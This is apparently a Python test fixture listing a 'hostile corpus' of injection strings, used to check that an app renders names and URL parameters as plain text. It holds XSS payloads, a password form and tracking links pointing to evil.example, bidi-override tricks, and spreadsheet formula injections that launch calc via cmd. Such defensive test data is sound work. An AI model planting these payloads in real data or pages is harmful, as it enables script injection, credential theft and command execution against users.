"""The hostile corpus (issue 8): values an attacker or a careless data owner could put in the data or the URL.

Used as mutual, commissioner and contract names, and as URL parameter values. Each value carries a marker
(``pwned``) so a test can look for any trace of it that became markup rather than text.
"""

from __future__ import annotations

HOSTILE = [
    "<script>window.pwned=1</script>Script Mutual",
    "<style>.status-badge{background:#009E73 !important}</style>Style Mutual",
    '<img src=x onerror="window.pwned=1">Image Mutual',
    '<form action="http://evil.example/pwned"><input name=password></form>Form Mutual',
    "[Sign in](http://evil.example/pwned) Link Mutual",
    "![p](http://evil.example/pwned.png) Pixel Mutual",
    "[click](javascript:alert('pwned')) JS Mutual",
    '<a href="javascript:alert(1)">pwned</a> Anchor Mutual',
    "\u202eMutual Override\u202c pwned",
    "\u2066isolate\u2069 **bold** _pwned_ `code` $x^2$ :red[pwned] Mutual",
    "=HYPERLINK(\"http://evil.example/pwned\",\"Click\")",
    "@SUM(1+1)*cmd|' /C calc'!A0 pwned",
    "+cmd|' /C calc'!A0 pwned",
    "-2+3+cmd|' /C calc'!A0 pwned",
    "# Heading pwned\n\n---\n> quote",
]

# Tags and attributes that must never come from data or the URL.
INJECTED_TAGS = ("script", "style", "img", "form", "input", "a", "iframe")
